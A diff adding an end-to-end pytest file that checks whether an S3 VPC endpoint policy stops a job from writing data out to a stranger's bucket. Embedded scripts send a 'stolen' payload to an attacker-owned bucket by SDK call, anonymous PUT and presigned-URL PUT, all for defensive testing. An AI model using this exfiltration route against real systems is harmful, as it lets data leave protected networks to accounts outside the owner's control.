@@ -1,0 +1,206 @@
+"""Keys of somebody else inside a job: what an open endpoint lets out, and what the printed policy keeps in.
+
+Whoever can make a job run code of his own brings his keys along, and has a bucket in an account of his own.
+"""
+
+from __future__ import annotations
+
+import configparser
+import json
+import os
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass, field, replace
+from typing import Any
+
+import boto3
+import pytest
+from botocore.config import Config
+from container_entry import run_in_container, start_in_container
+from product_world import Product
+from site_world import CALL, Site
+
+from reading_room.cli import reading
+
+pytestmark = [pytest.mark.e2e, pytest.mark.timeout(400)]
+
+STRANGER, REGION = "444455556666", "us-east-1"
+S3_URL = f"https://s3.{REGION}.amazonaws.com"
+
+PUT = """
+import json, ssl, sys, urllib.error, urllib.request
+trusting = ssl.create_default_context(cafile="/etc/ssl/certs/ca-certificates.crt")
+for url in sys.argv[1:]:
+    asked = urllib.request.Request(url, data=b"stolen", method="PUT")
+    try:
+        with urllib.request.urlopen(asked, timeout=30, context=trusting) as answer:
+            print(answer.status)
+    except urllib.error.HTTPError as error:
+        print(error.code)
+"""
+ONE_CONNECTION = """
+import http.client, ssl, sys, time, urllib.parse
+url = urllib.parse.urlsplit(sys.argv[1])
+trusting = ssl.create_default_context(cafile="/etc/ssl/certs/ca-certificates.crt")
+connection = http.client.HTTPSConnection(url.netloc, timeout=30, context=trusting)
+while True:
+    began = time.time()
+    connection.request("GET", url.path + "?" + url.query)
+    answer = connection.getresponse()
+    answer.read()
+    print(answer.status, connection.sock.getsockname()[1] if connection.sock else "closed", began, flush=True)
+    time.sleep(0.05)
+"""
+
+
+def run(product: Product, *arguments: str) -> str:
+    """Run a command of the product's own, with its settings."""
+    settings = {f"READING_ROOM_{name}": value for name, value in product.settings.items()}
+    argv = [sys.executable, "-m", "reading_room", *arguments]
+    done = subprocess.run(argv, capture_output=True, text=True, env=os.environ | settings, check=False)
+    assert done.returncode == 0, done.stderr
+    return done.stdout
+
+
+def signer(keys: dict[str, Any]) -> Any:
+    """Return a client for URLs as a job can use them: S3's own name, the bucket in the path."""
+    session: Any = boto3.session.Session(region_name=REGION, **keys)
+    config = Config(signature_version="s3v4", s3={"addressing_style": "path"})
+    return session.client("s3", endpoint_url=S3_URL, config=config)
+
+
+@dataclass
+class Attacker:
+    """Somebody with an account of his own, and a bucket there that everybody may write to."""
+
+    account: reading.Account
+    keys: dict[str, str] = field(repr=False)
+    bucket: str = "gathered-by-a-stranger"
+
+    def presigned(self, key: str) -> str:
+        """Return a URL by which anybody may put one object into the bucket."""
+        s3 = signer(self.keys)
+        return str(s3.generate_presigned_url("put_object", {"Bucket": self.bucket, "Key": key}))
+
+    def gathered(self) -> list[str]:
+        """Return the keys of what arrived, and take it away."""
+        found = self.account.s3.list_objects_v2(Bucket=self.bucket).get("Contents", [])
+        for each in found:
+            self.account.s3.delete_object(Bucket=self.bucket, Key=each["Key"])
+        return sorted(each["Key"] for each in found)
+
+
+def answers(reader: subprocess.Popen[str], since: float) -> list[tuple[str, str]]:
+    """Return status and port of the first three requests that began after a moment."""
+    found: list[tuple[str, str]] = []
+    assert reader.stdout is not None
+    while len(found) < 3:
+        status, port, began = reader.stdout.readline().split()
+        if float(began) > since:
+            found.append((status, port))
+    return found
+
+
+@pytest.fixture(scope="module")
+def product(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Product]:
+    """One running product."""
+    found = Product(tmp_path_factory.mktemp("product"))
+    try:
+        found.start()
+        yield found
+    finally:
+        found.clear()
+
+
+@pytest.fixture(scope="module")
+def attacker(product: Product) -> Attacker:
+    """The stranger's account, made by the operator like any other."""
+    run(product, "accounts", "create", STRANGER, "--data", str(product.data))
+    parser = configparser.ConfigParser(interpolation=None)
+    parser.read(product.data / "credentials")
+    profile = parser[STRANGER]
+    keys = {name: profile[name] for name in ("aws_access_key_id", "aws_secret_access_key")}
+    endpoint = replace(
+        product.endpoint(),
+        access_key_id=keys["aws_access_key_id"],
+        secret_access_key=keys["aws_secret_access_key"],
+    )
+    found = Attacker(reading.Account(endpoint), keys)
+    s3 = found.account.s3
+    s3.create_bucket(Bucket=found.bucket)
+    s3.delete_public_access_block(Bucket=found.bucket)
+    anybody = {
+        "Effect": "Allow",
+        "Principal": "*",
+        "Action": "s3:PutObject",
+        "Resource": f"arn:aws:s3:::{found.bucket}/*",
+    }
+    s3.put_bucket_policy(Bucket=found.bucket, Policy=json.dumps({"Version": "2012-10-17", "Statement": [anybody]}))
+    return found
+
+
+@pytest.fixture
+def site(product: Product) -> Site:
+    """A place with the guide's endpoint policy: seven actions, for everybody, on everything."""
+    return Site(product)
+
+
+def carry_out(worker: int, attacker: Attacker) -> list[Any]:
+    """Try three ways to the stranger's bucket from inside a job; return whether the SDK did it, and two statuses."""
+    parameters = {"Bucket": attacker.bucket, "Key": "foreign", "Body": "stolen"}
+    asked = json.dumps(["s3", "put_object", parameters, None, attacker.keys])
+    foreign = json.loads(run_in_container(worker, CALL, asked, as_job=True))
+    anonymous = f"{S3_URL}/{attacker.bucket}/anonymous"
+    said = run_in_container(worker, PUT, anonymous, attacker.presigned("presigned"), as_job=True)
+    return [foreign[0] == "answered", *(int(line) for line in said.split())]
+
+
+def test_an_open_endpoint_lets_a_stranger_s_keys_out_and_the_job_is_warned_of_it(
+    site: Site, attacker: Attacker
+) -> None:
+    with site.running() as (job, worker):
+        assert carry_out(worker, attacker) == [True, 200, 200]
+        assert "lets in requests of every account" in site.story(job)
+    assert attacker.gathered() == ["anonymous", "foreign", "presigned"]
+
+
+def test_the_printed_policy_lets_the_job_work_and_a_stranger_s_keys_nowhere(
+    product: Product, site: Site, attacker: Attacker
+) -> None:
+    printed = run(product, "network", "endpoint-policy", "--bucket", site.bucket)
+    site.ec2.modify_vpc_endpoint(VpcEndpointId=str(site.network.endpoint), PolicyDocument=printed)
+    with site.running() as (job, worker):
+        assert carry_out(worker, attacker) == [False, 403, 403]
+        assert "lets in requests" not in site.story(job)
+    assert attacker.gathered() == []
+    site.completes()
+
+
+def test_a_changed_endpoint_policy_holds_for_the_next_request_of_an_open_connection(
+    product: Product, site: Site
+) -> None:
+    s3 = signer(site.keys())
+    url = str(s3.generate_presigned_url("get_object", {"Bucket": site.bucket, "Key": "in/a.txt"}))
+
+    def policy(effect: str) -> str:
+        statements = [
+            {"Effect": "Allow", "Principal": "*", "Action": "*", "Resource": "*"},
+            {"Effect": effect, "Principal": "*", "Action": "s3:GetObject", "Resource": "*"},
+        ]
+        return json.dumps({"Version": "2012-10-17", "Statement": statements})
+
+    with site.running() as (_, worker):
+        reader = start_in_container(worker, ONE_CONNECTION, url, as_job=True)
+        try:
+            ports = set()
+            for effect, wanted in (("Allow", "200"), ("Deny", "403"), ("Allow", "200"), ("Deny", "403")):
+                site.ec2.modify_vpc_endpoint(VpcEndpointId=str(site.network.endpoint), PolicyDocument=policy(effect))
+                for status, port in answers(reader, time.time()):
+                    assert status == wanted
+                    ports.add(port)
+            assert len(ports) == 1
+        finally:
+            reader.kill()
+            reader.communicate()
